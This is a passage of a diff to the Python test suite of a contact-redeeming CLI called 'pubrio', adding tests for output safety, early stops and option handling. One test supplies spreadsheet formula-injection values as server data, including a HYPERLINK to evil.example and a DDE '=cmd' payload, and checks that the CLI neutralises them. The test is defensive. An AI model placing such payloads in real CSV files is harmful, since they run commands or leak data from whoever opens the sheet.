@@ -16,6 +16,11 @@ sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "fake_server"))
 from fake_server import QUERY, SUBMIT, FakeServer  # noqa: E402
 
 CLI = os.environ.get("PUBRIO_CLI", "pubrio")
+if os.sep in CLI:  # the tests run the CLI from their temporary folder
+    CLI = os.path.abspath(CLI)
+if os.sep in os.environ.get("PUBRIO_FAKE_SERVER", ""):
+    os.environ["PUBRIO_FAKE_SERVER"] = os.path.abspath(
+        os.environ["PUBRIO_FAKE_SERVER"])
 
 
 def ids(n, seed=0):
@@ -28,10 +33,27 @@ class CliTest(unittest.TestCase):
     def setUp(self):
         self.server = FakeServer(*self.server_args)
         self.tmp = tempfile.TemporaryDirectory()
+        # An early stop writes its ids file in the current directory.
+        self.cwd = os.getcwd()
+        os.chdir(self.tmp.name)
 
     def tearDown(self):
+        os.chdir(self.cwd)
         self.server.stop()
         self.tmp.cleanup()
+
+    def named_batches(self, err):
+        """The batch ids an early stop named: its ids file, read."""
+        m = re.search(r"the ids are in (\S+); collect them all with:\n"
+                      r"  pubrio query --wait (?:--format csv )?--input (\S+)\n",
+                      err)
+        if not m:
+            return []
+        self.assertEqual(m.group(1), m.group(2))
+        self.assertEqual(os.stat(m.group(1)).st_mode & 0o777, 0o600)
+        with open(m.group(1)) as f:
+            return [line.split("#")[0].strip() for line in f
+                    if line.split("#")[0].strip()]
 
     def path(self, name):
         return os.path.join(self.tmp.name, name)
@@ -730,35 +752,38 @@ class CreditSafety(CliTest):
     def test_a_closed_or_full_stdout_is_a_stop(self):
         # `| head`: the reader goes away after one line. The run stops as on
         # Ctrl-C (exit 8, not SIGPIPE's 141), saying so, and names every
-        # batch paid for and not collected.
+        # batch whose people may not have reached the reader: what a reader
+        # read before it left is unknown, so every batch of the run is named
+        # (in one file), and one command collects them all again.
         server = FakeServer("--estimated-time", "0", "--latency-ms", "30",
                             "--complete-after-polls", "2")
         self.addCleanup(server.stop)
         env = dict(os.environ, PUBRIO_BASE_URL=server.url,
                    PUBRIO_API_KEY="test-key")
+        people = ids(200)
         proc = subprocess.Popen([CLI, "redeem", "--types", "phone", "--wait",
                                  "--batch-size", "10", "--rate", "1000",
-                                 *ids(200)],
+                                 *people],
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                 env=env)
-        proc.stdout.readline()
+        first = json.loads(proc.stdout.readline())["people_search_id"]
         proc.stdout.close()
         err = proc.stderr.read().decode()
+        proc.stderr.close()
         proc.wait(timeout=60)
         self.assertEqual(proc.returncode, 8, err)
         self.assertIn("the output could not be written (Broken pipe)", err)
-        accepted = server.stats()["requests"][SUBMIT]
-        named = err.count("was accepted and is not collected")
-        collected = int(re.search(r"(\d+) batch(es)? collected", err).group(1))
-        self.assertEqual(named + collected, accepted, err)
-        # A full disk behind stdout: the same stop, never "success".
-        with open("/dev/full", "w") as full:
-            r = subprocess.run([CLI, "redeem", "--types", "phone", "--wait",
-                                *ids(20)], stdout=full,
-                               stderr=subprocess.PIPE, text=True, env=env,
-                               timeout=60)
-        self.assertEqual(r.returncode, 8, r.stderr)
-        self.assertIn("No space left on device", r.stderr)
+        named = self.named_batches(err)
+        self.assertEqual(len(named), len(set(named)))
+        self.assertEqual(len(named), server.stats()["requests"][SUBMIT], err)
+        r = subprocess.run([CLI, "query", "--wait", "--input",
+                            re.search(r"--input (\S+)", err).group(1)],
+                           capture_output=True, text=True, env=env, timeout=60)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        again = {p["people_search_id"] for p in self.people(r.stdout)}
+        self.assertEqual(len(again), server.stats()["people_submitted"])
+        self.assertIn(first, again)
+        self.assertLessEqual(again, set(people))
 
     def test_input_lines_are_capped_and_binary_refused(self):
         good = ids(2)
@@ -1270,6 +1295,152 @@ class Csv(CsvRun):
         self.assertEqual(out[1][2], 'ok,"x"')
 
 
+class NothingPaidDropped(CsvRun):
+    """Every contact paid for reaches every output, whole (issue 26 item
+    12): 300 emails of one person (a cell far past 4,096 bytes) and
+    contacts of types this version does not know."""
+    types = "email-work,phone"
+
+    def answer(self, batch, person):
+        emails = [{"value": "person.%03d@long-domain-name.example" % i,
+                   "type": "email-work", "status": "Verified"}
+                  for i in range(300)]
+        emails.append({"value": "x@other.example", "type": "email-other",
+                       "status": "Guessed"})
+        phones = [{"value": "+15550001", "type": "phone", "status": None},
+                  {"value": "+15550002", "type": "fax", "status": None}]
+        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
+            "redeem_query_id": "00000000-0000-4000-8000-%012x" % batch,
+            "is_completed": True}, "peoples": [{
+                "people_search_id": person, "emails": emails,
+                "phones": phones}]}}))
+        return emails, phones
+
+    def test_long_cells_and_unknown_types_are_written(self):
+        person = ids(1, seed=41)[0]
+        journal = self.path("run.journal")
+        # The enriched CSV.
+        emails, phones = self.answer(1, person)
+        data = csv_bytes([["people_search_id", "name"], [person, "Ann"]])
+        r, err, out = self.redeem_rows(data, "--journal", journal)
+        self.assertEqual(r.returncode, 0, err)
+        header = out[0]
+        row = dict(zip(header, out[1]))
+        self.assertEqual(row["email_work"].split("; "),
+                         [e["value"] for e in emails[:300]])
+        self.assertIn("other_contacts", header)
+        self.assertEqual(row["phone"], "+15550001")
+        self.assertEqual(row["other_contacts"],
+                         "email-other: x@other.example (Guessed); "
+                         "fax: +15550002")
+        self.assertEqual(row["pubrio_result"], "found")
+        # JSON lines, --format csv (a second batch each, the same answer).
+        def values(contacts):
+            return sorted(c["value"] for c in contacts)
+        for batch, fmt in ((2, "json"), (3, "csv")):
+            self.answer(batch, person)
+            r = self.run_cli("redeem", "--types", self.types, "--wait",
+                             "--format", fmt, person)
+            self.assertEqual(r.returncode, 0, r.stderr)
+            if fmt == "json":
+                p = self.people(r.stdout)[0]
+                got = values(p["emails"] + p["phones"])
+            else:
+                got = sorted(row[2] for row in parse_csv(
+                    r.stdout.encode())[1:])
+            self.assertEqual(got, values(emails + phones))
+        # export, from the journal, in both formats.
+        r = self.run_cli("export", "--journal", journal)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        p = self.people(r.stdout)[0]
+        self.assertEqual(values(p["emails"] + p["phones"]),
+                         values(emails + phones))
+        r = self.run_cli("export", "--journal", journal, "--format", "csv")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(sorted(row[2] for row in parse_csv(
+            r.stdout.encode())[1:]), values(emails + phones))
+
+
+class FormulaCells(CsvRun):
+    """Server text is never a live formula in a CSV the CLI writes (issue
+    27 item 7), unless --csv-raw."""
+    types = "email-work,phone"
+    hostile = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(A1:A2)",
+               "-1+1", "\t=1+1", "\r=2+2", "+1 (555) 266-7756"]
+    e164 = "+15552667756"
+
+    def answer(self, batch, person):
+        emails = [{"value": v, "type": "email-work", "status": None}
+                  for v in self.hostile[:5]]
+        phones = [{"value": v, "type": "phone", "status": "=cmd|' /C calc'!A0"}
+                  for v in (self.hostile[5], self.e164)]
+        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
+            "redeem_query_id": "00000000-0000-4000-8000-%012x" % batch,
+            "is_completed": True}, "peoples": [{
+                "people_search_id": person, "emails": emails,
+                "phones": phones}]}}))
+
+    @staticmethod
+    def shown(value):
+        """What the CSV holds for a value: control characters escaped."""
+        return value.replace("\t", "\\u0009").replace("\r", "\\u000d")
+
+    def test_formulas_get_a_quote_and_phones_stay_numbers(self):
+        person = ids(1, seed=51)[0]
+        journal = self.path("run.journal")
+        guarded = ["'" + self.shown(v) for v in self.hostile]
+        raw = [self.shown(v) for v in self.hostile]
+        # --format csv rows: values and statuses.
+        self.answer(1, person)
+        r = self.run_cli("redeem", "--types", self.types, "--wait",
+                         "--format", "csv", "--journal", journal, person)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        rows = parse_csv(r.stdout.encode())[1:]
+        self.assertEqual(sorted(row[2] for row in rows),
+                         sorted(guarded + [self.e164]))
+        self.assertIn("'=cmd|' /C calc'!A0", [row[3] for row in rows])
+        # export --format csv, the same.
+        r = self.run_cli("export", "--journal", journal, "--format", "csv")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(sorted(row[2] for row in parse_csv(
+            r.stdout.encode())[1:]), sorted(guarded + [self.e164]))
+        r = self.run_cli("export", "--journal", journal, "--format", "csv",
+                         "--csv-raw")
+        self.assertEqual(sorted(row[2] for row in parse_csv(
+            r.stdout.encode())[1:]), sorted(raw + [self.e164]))
+        # The enriched rows: the cell's first value decides.
+        for batch, extra in ((2, ()), (3, ("--csv-raw",))):
+            self.answer(batch, person)
+            data = csv_bytes([["people_search_id", "note"],
+                              [person, "=my own formula"]])
+            r, err, out = self.redeem_rows(data, *extra)
+            self.assertEqual(r.returncode, 0, err)
+            row = dict(zip(out[0], out[1]))
+            prefix = "" if extra else "'"
+            self.assertEqual(row["email_work"],
+                             prefix + "; ".join(raw[:5]))
+            self.assertEqual(row["phone"], prefix + "; ".join(
+                [raw[5], self.e164]))
+            self.assertEqual(row["phone_status"], prefix + "=cmd|' /C calc'!A0"
+                             "; =cmd|' /C calc'!A0")
+            self.assertEqual(row["note"], "=my own formula")  # the input's
+        # JSON lines are never changed.
+        self.answer(4, person)
+        r = self.run_cli("redeem", "--types", self.types, "--wait", person)
+        p = self.people(r.stdout)[0]
+        self.assertEqual(sorted(c["value"] for c in p["emails"] + p["phones"]),
+                         sorted(self.hostile + [self.e164]))
+        # A phone alone: E.164 as it is.
+        self.server.script(QUERY, 200, json.dumps({"data": {"query": {
+            "redeem_query_id": "00000000-0000-4000-8000-%012x" % 5,
+            "is_completed": True}, "peoples": [{
+                "people_search_id": person, "emails": [], "phones": [
+                    {"value": self.e164, "type": "phone", "status": None}]}]}}))
+        data = csv_bytes([["people_search_id"], [person]])
+        r, err, out = self.redeem_rows(data)
+        self.assertEqual(dict(zip(out[0], out[1]))["phone"], self.e164)
+
+
 class CsvStopped(CsvRun):
     server_args = ("--estimated-time", "0", "--complete-after-polls",
                    "1000000")
@@ -1311,6 +1482,7 @@ class AtomicOutput(CliTest):
         args = [CLI, "redeem", "--types", "phone", "--wait", "--format", "csv",
                 "--batch-size", "5", "--parallel", "2", "--input", f,
                 "--output", out]
+        replaced = False
         for _ in range(12):
             proc = subprocess.Popen(args, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, env=env)
@@ -1322,7 +1494,10 @@ class AtomicOutput(CliTest):
             if got != previous:  # a kill after the rename: a whole run
                 self.assertEqual(len(parse_csv(got)), 61)
                 previous = got
-            self.assertEqual(os.stat(out).st_mode & 0o777, 0o640)
+                replaced = True
+            # The old FILE keeps its mode; a new one is always 0600.
+            self.assertEqual(os.stat(out).st_mode & 0o777,
+                             0o600 if replaced else 0o640)
         # Killed runs leave only hidden temporaries (they were writing),
         # never a partial FILE.
         names = set(os.listdir(self.tmp.name)) - {"in.csv", "out.csv"}
@@ -1336,7 +1511,8 @@ class AtomicOutput(CliTest):
             rows = parse_csv(fh.read())
         self.assertEqual(len(rows), 61)
         self.assertEqual([row[0] for row in rows[1:]], people)
-        self.assertEqual(os.stat(out).st_mode & 0o777, 0o640)  # mode kept
+        # Always 0600 (contacts are personal data), whatever FILE's was.
+        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
 
     def test_new_file_is_0600_and_a_failed_run_leaves_the_old_one(self):
         out = self.path("batches.jsonl")
@@ -1464,6 +1640,510 @@ class Touches2(CliTest):
         self.assertIn("batches 1/1", r.stderr)
         self.assertNotIn("\x1b", r.stderr + r.stdout)
         self.assertNotIn("\r", r.stderr)
+
+
+def read_all(path):
+    with open(path, "rb") as f:
+        return f.read()
+
+
+class OptionsOnce(CliTest):
+    """A repeated or empty option is a usage error, before anything is sent
+    (issue 26 item 17): `--types email-work --types phone` bought both."""
+
+    def test_every_option_twice_or_empty_is_refused(self):
+        person = ids(1)[0]
+        key_file = self.write("key.txt", ["test-key"])
+        values = {
+            "types": "phone", "profile-id": "1",
+            "input": self.write("in.txt", [person]), "batch-size": "5",
+            "parallel": "2", "max-credits": "10", "max-wait": "5",
+            "format": "json", "journal": self.path("j.journal"),
+            "price": "email=1", "api-key": "test-key",
+            "api-key-file": key_file, "base-url": self.server.url,
+            "timeout": "5", "retries": "1", "input-format": "ids",
+            "id-column": "a", "url-column": "b", "delimiter": ";",
+            "output": self.path("out.jsonl")}
+        flags = ["dry-run", "wait", "resubmit-uncertain", "refresh",
+                 "no-account", "strict", "quiet"]
+        base = ["redeem", "--types", "phone", "--wait"]
+        for name, value in values.items():
+            with self.subTest(option=name, twice=True):
+                extra = [] if name == "types" else base
+                r = self.run_cli(*(extra or ["redeem"]), f"--{name}", value,
+                                 f"--{name}={value}", person)
+                self.assertEqual(r.returncode, 2, r.stderr)
+                self.assertIn(f"--{name} is given twice", r.stderr)
+            with self.subTest(option=name, empty=True):
+                r = self.run_cli("redeem", f"--{name}", "", person)
+                self.assertEqual(r.returncode, 2, r.stderr)
+                self.assertIn(f"--{name} needs a value", r.stderr)
+        for name in flags:
+            with self.subTest(option=name, twice=True):
+                r = self.run_cli(*base, f"--{name}", f"--{name}", person)
+                self.assertEqual(r.returncode, 2, r.stderr)
+                self.assertIn(f"--{name} is given twice", r.stderr)
+        r = self.run_cli(*base, "-q", "--quiet", person)
+        self.assertEqual(r.returncode, 2, r.stderr)
+        self.assertEqual(self.server.requests(), 0)
+        # --rate (a window each) and -v (more detail) do repeat.
+        r = self.run_cli(*base, "--rate", "100", "--rate", "10/1s", "-v",
+                         "-v", person)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(self.server.requests(SUBMIT), 1)
+
+
+class RecordingProxy:
+    """An HTTP proxy on 127.0.0.1 that records what each connection sends
+    and answers 502."""
+
+    def __init__(self):
+        import threading
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.url = "http://127.0.0.1:%d" % self.sock.getsockname()[1]
+        self.received = []
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(5)
+                data = b""
+                try:
+                    while b"\r\n\r\n" not in data:
+                        chunk = conn.recv(65536)
+                        if not chunk:
+                            break
+                        data += chunk
+                    conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\n"
+                                 b"Content-Length: 0\r\n"
+                                 b"Connection: close\r\n\r\n")
+                except OSError:
+                    pass
+                self.received.append(data)
+
+    def close(self):
+        self.sock.close()
+
+
+class PlainHttp(CliTest):
+    """The key never crosses the network in clear (issue 27 item 8): plain
+    http only to loopback unless allowed, and loopback never through a
+    proxy."""
+    key = "test-key"  # the fake server's
+
+    def setUp(self):
+        super().setUp()
+        self.proxy = RecordingProxy()
+        self.addCleanup(self.proxy.close)
+
+    def run_proxied(self, *args, **env_extra):
+        env = {k: v for k, v in os.environ.items()
+               if k.lower() not in ("http_proxy", "https_proxy", "all_proxy",
+                                    "no_proxy", "pubrio_allow_insecure_http")}
+        env.update(PUBRIO_API_KEY=self.key, http_proxy=self.proxy.url,
+                   https_proxy=self.proxy.url, PUBRIO_BASE_URL=self.server.url)
+        env.update(env_extra)
+        return subprocess.run([CLI, *args], capture_output=True, text=True,
+                              env=env, timeout=60)
+
+    def test_plain_http_to_another_host_is_refused_before_sending(self):
+        person = ids(1)[0]
+        for args in (("redeem", "--types", "phone", "--wait", person),
+                     ("query", person)):
+            with self.subTest(args=args[0]):
+                r = self.run_proxied(args[0], "--base-url",
+                                     "http://api.pubrio.com", "--retries",
+                                     "0", *args[1:])
+                self.assertEqual(r.returncode, 2, r.stderr)
+                self.assertIn("refusing plain http to http://api.pubrio.com",
+                              r.stderr)
+                self.assertNotIn(self.key, r.stderr)
+        r = self.run_proxied("query", "--retries", "0", person,
+                             PUBRIO_BASE_URL="http://10.1.2.3:8080")
+        self.assertEqual(r.returncode, 2, r.stderr)
+        self.assertEqual(self.proxy.received, [])  # nothing left at all
+        # Allowed explicitly (the option, or the variable): it goes, here
+        # to the proxy, which sees the key: that is what "unsafe" means.
+        r = self.run_proxied("query", "--retries", "0",
+                             "--allow-insecure-http", "--base-url",
+                             "http://api.pubrio.com", person)
+        self.assertNotIn("refusing plain http", r.stderr)
+        r = self.run_proxied("query", "--retries", "0", "--base-url",
+                             "http://api.pubrio.com", person,
+                             PUBRIO_ALLOW_INSECURE_HTTP="1")
+        self.assertNotIn("refusing plain http", r.stderr)
+        self.assertEqual(len(self.proxy.received), 2)
+        self.assertIn(self.key.encode(), self.proxy.received[0])
+
+    def test_loopback_never_goes_through_a_proxy(self):
+        person = ids(1)[0]
+        for base in (self.server.url,
+                     self.server.url.replace("127.0.0.1", "localhost")):
+            with self.subTest(base=base):
+                r = self.run_proxied("redeem", "--types", "phone", "--wait",
+                                     "--base-url", base, person)
+                self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(self.proxy.received, [])
+        self.assertEqual(self.server.requests(SUBMIT), 2)
+        # [::1] is loopback too: not refused (nothing listens there).
+        r = self.run_proxied("query", "--retries", "0", "--base-url",
+                             "http://[::1]:9", person)
+        self.assertNotIn("refusing plain http", r.stderr)
+        self.assertEqual(self.proxy.received, [])
+
+    def test_https_through_a_proxy_stays_a_tunnel(self):
+        r = self.run_proxied("query", "--retries", "0", "--timeout", "5",
+                             "--base-url", "https://api.pubrio.com",
+                             ids(1)[0])
+        self.assertEqual(r.returncode, 5, r.stderr)
+        self.assertEqual(len(self.proxy.received), 1)
+        self.assertTrue(self.proxy.received[0].startswith(
+            b"CONNECT api.pubrio.com:443"), self.proxy.received)
+        self.assertNotIn(self.key.encode(), self.proxy.received[0])
+
+
+class OptionTable(CliTest):
+    """The help, the man page and the bash, zsh and fish completions name
+    every option of the parser's one table (`pubrio --list-options`), and
+    every subcommand (issue 31 item 11)."""
+    root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
+
+    def read(self, *parts):
+        with open(os.path.join(self.root, *parts)) as f:
+            return f.read()
+
+    def test_every_option_appears_everywhere(self):
+        r = self.run_cli("--list-options")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        options = r.stdout.split()
+        self.assertIn("--types", options)
+        self.assertGreater(len(options), 30)
+        help_text = self.run_cli("--help").stdout
+        man = self.read("docs", "man", "pubrio.1").replace("\\-", "-")
+        bash = self.read("contrib", "pubrio.bash-completion")
+        zsh = self.read("contrib", "pubrio.zsh-completion")
+        fish = self.read("contrib", "pubrio.fish")
+        for opt in options:
+            with self.subTest(option=opt):
+                word = re.compile(re.escape(opt) + r"(?![\w-])")
+                self.assertRegex(help_text, word, "--help")
+                self.assertRegex(man, word, "the man page")
+                self.assertRegex(bash, word, "bash")
+                self.assertRegex(zsh, word, "zsh")
+                self.assertRegex(fish, r"-l " + re.escape(opt[2:]) +
+                                 r"(?![\w-])", "fish")
+        for command in ("redeem", "query", "export", "status"):
+            with self.subTest(command=command):
+                for text in (help_text, man, bash, zsh, fish):
+                    self.assertIn(command, text)
+        # `pubrio help query` says its options, not "as above".
+        r = self.run_cli("help", "query")
+        self.assertNotIn("as above", r.stdout)
+        self.assertIn("--max-wait", r.stdout)
+
+
+class SmallPoints(CliTest):
+    """Issue 31 item 13's small points."""
+
+    def test_a_semicolon_csv_says_which_delimiter_to_pass(self):
+        f = self.write("leads.csv", ["people_search_id;name",
+                                     ids(1)[0] + ";Ann"])
+        r = self.run_cli("redeem", "--types", "phone", "--wait", "--input", f)
+        self.assertEqual(r.returncode, 2, r.stderr)
+        self.assertIn("pass --delimiter ';'", r.stderr)
+        self.assertEqual(self.server.requests(), 0)
+
+    def test_one_balance_figure_named_the_same_in_plan_and_summary(self):
+        person = ids(1)[0]
+        plan = self.run_cli("redeem", "--types", "phone", "--dry-run", person)
+        self.assertEqual(plan.returncode, 0, plan.stderr)
+        before = int(re.search(r"balance (\d+) \(credit \+ top-up\)",
+                               plan.stdout).group(1))
+        r = self.run_cli("redeem", "--types", "phone", "--wait", person)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        charged = int(re.search(r"(\d+) credits? charged", r.stderr).group(1))
+        after = int(re.search(r"balance (\d+) \(credit \+ top-up\)",
+                              r.stderr).group(1))
+        self.assertGreater(charged, 0)
+        self.assertEqual(after, before - charged)
+
+
+class EarlyStop(CliTest):
+    """An early stop names its batches in one file and one command, and its
+    summary says what is accepted, charged and still open (issue 26 item
+    13)."""
+    server_args = ("--estimated-time", "0", "--complete-after-ms", "4000",
+                   "--phone-price", "3")
+
+    def test_one_command_collects_every_batch_left(self):
+        people = ids(40, seed=31)
+        f = self.write("in.txt", people)
+        for journal in ((), ("--journal", self.path("run.journal"))):
+            with self.subTest(journal=bool(journal)):
+                submits = self.server.requests(SUBMIT)
+                r = self.run_cli("redeem", "--types", "phone", "--wait",
+                                 "--batch-size", "1", "--parallel", "8",
+                                 "--rate", "100000", "--max-wait", "1",
+                                 "--input", f, *journal)
+                self.assertEqual(r.returncode, 6, r.stderr)
+                self.assertEqual(r.stderr.count("pubrio query"), 1, r.stderr)
+                self.assertLess(len(r.stderr.splitlines()), 8, r.stderr)
+                named = self.named_batches(r.stderr)
+                # Every batch accepted (a slow machine may not submit all
+                # 40 within the second) is named, once.
+                accepted = self.server.requests(SUBMIT) - submits
+                self.assertGreater(accepted, 10)
+                self.assertEqual(len(set(named)), accepted, r.stderr)
+                self.assertEqual(len(named), accepted)
+                self.assertIn(
+                    f"pubrio: {accepted} batches accepted, {accepted} still "
+                    f"open: 0 credits charged so far, at most {3 * accepted} "
+                    "more when they are collected", r.stderr)
+                r = self.run_cli("query", "--wait", "--input",
+                                 re.search(r"--input (\S+)",
+                                           r.stderr).group(1))
+                self.assertEqual(r.returncode, 0, r.stderr)
+                got = [p["people_search_id"] for p in self.people(r.stdout)]
+                self.assertEqual(len(set(got)), accepted)
+                self.assertLessEqual(set(got), set(people))
+                people = ids(40, seed=32)  # the second run: new people
+                f = self.write("in.txt", people)
+
+
+class ClosedPipeFromJournal(CliTest):
+    def test_people_from_the_journal_are_named_as_rerunnable(self):
+        people = ids(3000, seed=61)
+        journal = self.path("run.journal")
+        f = self.write("in.txt", people)
+        r = self.run_cli("redeem", "--types", "phone", "--wait", "--rate",
+                         "100000", "--input", f, "--journal", journal)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
+                   PUBRIO_API_KEY="test-key")
+        # A rerun hands everyone out from the journal (no request), into a
+        # pipe its reader closes after one line.
+        proc = subprocess.Popen([CLI, "redeem", "--types", "phone", "--wait",
+                                 "--input", f, "--journal", journal],
+                                stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                env=env)
+        proc.stdout.readline()
+        proc.stdout.close()
+        err = proc.stderr.read().decode()
+        proc.stderr.close()
+        proc.wait(timeout=60)
+        self.assertEqual(proc.returncode, 8, err)
+        self.assertRegex(err, r"\d+ people handed out from the journal or "
+                         r"asked by LinkedIn URL may not have reached the "
+                         r"output: the journal holds them; rerun with the "
+                         r"same --journal \(0 credits\)")
+
+
+class FullDisk(CliTest):
+    """A disk that fills under --output or under standard output (issue 26
+    items 10 and 11): a real tmpfs of 32 KiB, mounted for the test."""
+
+    def setUp(self):
+        super().setUp()
+        self.disk = self.path("disk")
+        os.mkdir(self.disk)
+        r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=32k", "tmpfs",
+                            self.disk], capture_output=True, text=True)
+        if r.returncode != 0:
+            self.skipTest("cannot mount a tmpfs (needs root): " +
+                          r.stderr.strip())
+        self.mounted = True
+        self.people = ids(600, seed=21)
+        self.input = self.write("in.txt", self.people)
+
+    def tearDown(self):
+        if getattr(self, "mounted", False):
+            subprocess.run(["umount", self.disk], check=True)
+        super().tearDown()
+
+    def check_every_paid_person_is_kept_or_named(self, kept_text, err):
+        kept = set()
+        for line in kept_text.split("\n")[:-1]:  # the last may be cut
+            try:
+                kept.add(json.loads(line)["people_search_id"])
+            except ValueError:
+                pass
+        named = self.named_batches(err)
+        self.assertTrue(named, err)
+        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
+                   PUBRIO_API_KEY="test-key")
+        r = subprocess.run([CLI, "query", "--wait", "--input",
+                            re.search(r"--input (\S+)", err).group(1)],
+                           capture_output=True, text=True, env=env, timeout=60)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        again = {p["people_search_id"] for p in self.people_of(r.stdout)}
+        paid = self.server.stats()["people_submitted"]
+        self.assertEqual(len(kept | again), paid, err)
+        self.assertLessEqual(kept | again, set(self.people))
+        return kept
+
+    def people_of(self, stdout):
+        return [json.loads(line) for line in stdout.splitlines() if line]
+
+    def test_output_on_a_full_disk_keeps_what_was_written(self):
+        out = os.path.join(self.disk, "contacts.jsonl")
+        r = self.run_cli("redeem", "--types", "phone", "--wait",
+                         "--batch-size", "20", "--parallel", "2",
+                         "--input", self.input, "--output", out)
+        self.assertEqual(r.returncode, 8, r.stderr)
+        self.assertIn("No space left on device", r.stderr)
+        m = re.search(r"what was written before the failure is kept in (\S+) "
+                      r"\(incomplete\)", r.stderr)
+        self.assertTrue(m, r.stderr)
+        self.assertFalse(os.path.exists(out))  # never half a FILE
+        with open(m.group(1)) as f:
+            kept = self.check_every_paid_person_is_kept_or_named(f.read(),
+                                                                 r.stderr)
+        self.assertGreater(len(kept), 20)
+
+    def test_stdout_on_a_full_disk_names_what_did_not_reach_it(self):
+        out = os.path.join(self.disk, "stdout.jsonl")
+        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
+                   PUBRIO_API_KEY="test-key")
+        with open(out, "w") as f:
+            r = subprocess.run([CLI, "redeem", "--types", "phone", "--wait",
+                                "--batch-size", "20", "--parallel", "2",
+                                "--input", self.input], stdout=f,
+                               stderr=subprocess.PIPE, text=True, env=env,
+                               timeout=120)
+        self.assertEqual(r.returncode, 8, r.stderr)
+        self.assertIn("No space left on device", r.stderr)
+        with open(out) as f:
+            self.check_every_paid_person_is_kept_or_named(f.read(), r.stderr)
+
+
+class OutputTargets(CliTest):
+    """--output on what is not a plain file of ours (issue 27 item 1)."""
+
+    def test_a_fifo_is_written_through_and_left_a_fifo(self):
+        import stat
+        import threading
+        fifo = self.path("results.fifo")
+        os.mkfifo(fifo)
+        os.chmod(fifo, 0o644)
+        got = []
+        reader = threading.Thread(
+            target=lambda: got.append(read_all(fifo)), daemon=True)
+        reader.start()
+        r = self.run_cli("redeem", "--types", "phone", "--wait",
+                         "--output", fifo, *ids(3))
+        if os.path.exists(fifo) and not got and stat.S_ISFIFO(
+                os.lstat(fifo).st_mode):  # release a reader never written to
+            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
+        reader.join(30)
+        self.assertTrue(got, "the FIFO was never written")
+        self.assertEqual(r.returncode, 0, r.stderr)
+        people = self.people(got[0].decode())
+        self.assertEqual(sorted(p["people_search_id"] for p in people),
+                         sorted(ids(3)))
+        st = os.lstat(fifo)
+        self.assertTrue(stat.S_ISFIFO(st.st_mode))
+        self.assertEqual(st.st_mode & 0o777, 0o644)
+        self.assertEqual(os.listdir(self.tmp.name), ["results.fifo"])
+
+    def test_a_character_device_is_written_through_and_left_a_device(self):
+        import stat
+        import tty
+        import select
+        # /dev/tty's character device (5, 0: the process's terminal), made
+        # with mknod in our folder; the CLI runs with a pseudo-terminal as
+        # its terminal, so what it writes is read back from the master.
+        master, slave = os.openpty()
+        self.addCleanup(os.close, master)
+        tty.setraw(slave)
+        dev = self.path("tty.dev")
+        os.mknod(dev, 0o620 | stat.S_IFCHR, os.makedev(5, 0))
+        os.chmod(dev, 0o620)
+        slave_name = os.ttyname(slave)
+
+        def own_terminal():
+            os.setsid()
+            os.close(os.open(slave_name, os.O_RDWR))  # becomes the terminal
+
+        env = dict(os.environ, PUBRIO_BASE_URL=self.server.url,
+                   PUBRIO_API_KEY="test-key")
+        r = subprocess.run([CLI, "redeem", "--types", "phone", "--wait",
+                            "--output", dev, *ids(2)], capture_output=True,
+                           text=True, env=env, timeout=60,
+                           preexec_fn=own_terminal)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        data = b""
+        while data.count(b"\n") < 2 and select.select([master], [], [], 5)[0]:
+            data += os.read(master, 65536)
+        os.close(slave)
+        people = self.people(data.decode())
+        self.assertEqual(sorted(p["people_search_id"] for p in people),
+                         sorted(ids(2)))
+        st = os.lstat(dev)
+        self.assertTrue(stat.S_ISCHR(st.st_mode))
+        self.assertEqual(st.st_mode & 0o777, 0o620)
+
+    def test_a_link_is_followed_and_its_targets_mode_never_copied(self):
+        target = self.path("shared.jsonl")
+        with open(target, "w") as f:
+            f.write("old\n")
+        os.chmod(target, 0o666)
+        link = self.path("out.jsonl")
+        os.symlink(target, link)
+        r = self.run_cli("redeem", "--types", "phone", "--wait",
+                         "--output", link, *ids(2))
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertTrue(os.path.islink(link))
+        self.assertEqual(os.stat(target).st_mode & 0o777, 0o600)
+        with open(link) as f:
+            self.assertEqual(len(self.people(f.read())), 2)
+        # A regular file of ours comes out 0600 too, whatever its mode was.
+        plain = self.path("plain.jsonl")
+        with open(plain, "w") as f:
+            f.write("old\n")
+        os.chmod(plain, 0o644)
+        r = self.run_cli("redeem", "--types", "phone", "--wait",
+                         "--output", plain, *ids(1))
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(os.stat(plain).st_mode & 0o777, 0o600)
+
+    @unittest.skipUnless(os.geteuid() == 0, "needs root to chown")
+    def test_what_another_user_owns_is_not_replaced(self):
+        nobody = 65534
+        theirs = self.path("theirs.jsonl")
+        with open(theirs, "w") as f:
+            f.write("their data\n")
